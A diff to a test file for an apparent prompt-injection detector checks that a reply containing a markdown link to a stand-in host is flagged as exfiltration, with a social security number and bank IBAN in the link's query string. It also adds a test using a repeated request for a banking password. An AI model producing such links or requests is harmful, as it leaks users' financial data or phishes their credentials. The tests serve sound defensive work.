@@ -157,3 +157,21 @@ def test_a_leaking_link_flags_the_answer(detector: InjectionDetector) -> None:
     text = "Your report: [open](https://tax-viewer.example/r?ssn=412-55-9081&bank=DE89370400440532013000)"
     verdict, _ = detector.detect(text, direction="response")
     assert verdict.flagged and "exfil:link" in verdict.reasons
+
+
+def test_a_long_answer_reads_whether_it_discusses_attacks_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    # Many candidate asks in an article about attacks: each is excused by the same fact about the text,
+    # which is read once, not once per candidate (a 100 KB answer stays linear).
+    from promptguard.recognizers.injection import answer_attacks
+
+    calls: list[int] = []
+    real = answer_attacks.mentions_attacks
+
+    def counted(text: str) -> bool:
+        calls.append(1)
+        return real(text)
+
+    monkeypatch.setattr(answer_attacks, "mentions_attacks", counted)
+    text = "Prompt injection attackers write: please provide your online banking password here. " * 200
+    assert find_answer_attacks(text) == []
+    assert len(calls) == 1
